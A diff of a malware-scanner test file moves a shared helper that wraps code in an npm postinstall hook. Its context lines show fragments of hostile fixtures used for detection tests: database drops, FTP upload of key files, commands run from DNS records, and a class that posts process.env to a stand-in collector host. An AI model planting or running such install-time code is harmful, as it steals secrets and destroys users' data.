@@ -10,6 +10,9 @@ import { analyzeSource, threatsOf } from './helpers';
 const risk = (files: Record<string, string>) => analyzeSource(files).risk_level;
 const pkg = (extra: Record<string, unknown> = {}) =>
   JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js', ...extra });
+/** A package whose postinstall runs `setup.js` holding `code`. */
+const install = (code: string) =>
+  analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
 
 describe('values through string tables', () => {
   it('a decoder indexed by number (string-array obfuscation) names the module and the command', () => {
@@ -2078,8 +2081,6 @@ const form = document.querySelector('form'); if (form && window.API) form.action
 });
 
 describe('databases wiped by install-time code', () => {
-  const install = (code: string) =>
-    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
   it('every database listed and dropped, a SQL DROP sent through a client, a cache flushed', () => {
     for (const code of [
       `const { MongoClient } = require('mongodb');
@@ -2109,8 +2110,6 @@ const c = new Client({ connectionString: process.env.DATABASE_URL }); c.connect(
 });
 
 describe('secrets sent through file transfer, cloud storage and request bodies built piece by piece', () => {
-  const install = (code: string) =>
-    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
   it('an FTP upload of a key file, an S3 put of the AWS credentials, a form-data post, URLSearchParams of the environment', () => {
     for (const code of [
       `const ftp = require('basic-ftp'); const os = require('os');
@@ -2229,8 +2228,6 @@ fs.writeFileSync('/usr/local/bin/fixture-tool', '#!/bin/sh\\nexec node ' + __dir
 });
 
 describe('commands received over DNS and UDP', () => {
-  const install = (code: string) =>
-    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
   it('TXT records decoded and run (callback and promise forms), a UDP socket whose messages are run', () => {
     for (const code of [
       `const dns = require('dns'); const { execSync } = require('child_process');
@@ -2462,8 +2459,6 @@ bus.once('ready', up); bus.emit('ready', require('fs').readFileSync(require('os'
 
 describe('values through prototypes and getters (transpiled classes)', () => {
   const U = 'https://collect.example-metrics.dev/t';
-  const install = (code: string) =>
-    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node index.js' } }), 'index.js': code });
   it('an ES5 class compiled into an IIFE with prototype methods, a method added to F.prototype, a getter', () => {
     for (const code of [
       `var Sender = (function () { function Sender(url) { this.url = url; } Sender.prototype.send = function (data) { return fetch(this.url, { method: 'POST', body: JSON.stringify(data) }); }; return Sender; }());
@@ -2483,8 +2478,6 @@ var s = new Sender('${U}'); s.send(process.env);`,
 });
 
 describe('miners under other names', () => {
-  const install = (code: string) =>
-    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
   const wallet = '4' + 'A'.repeat(94);
   it('a renamed binary given a pool and a wallet, a config file with pools and a wallet, a worker miner in the page', () => {
     for (const code of [
